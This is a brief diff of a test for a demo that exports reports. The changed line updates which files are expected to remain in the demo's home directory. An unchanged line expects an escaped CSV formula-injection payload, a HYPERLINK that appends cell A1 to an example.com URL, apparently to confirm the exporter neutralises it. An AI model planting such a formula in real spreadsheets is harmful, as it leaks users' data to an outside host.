@@ -33,6 +33,6 @@ test("the demo exports every report in every format through real processes", asy
   expect(csv).toContain(`"'=HYPERLINK(""https://example.com/?x=""&A1,""Open the invoice"")"`);
 
   // The home, with its database and logs, went with the demo.
-  expect(await readdir(dirname(files))).toEqual(["demo.log", "files"]);
+  expect(await readdir(dirname(files))).toEqual(["files"]);
   await rm(dirname(files), { recursive: true, force: true });
 });
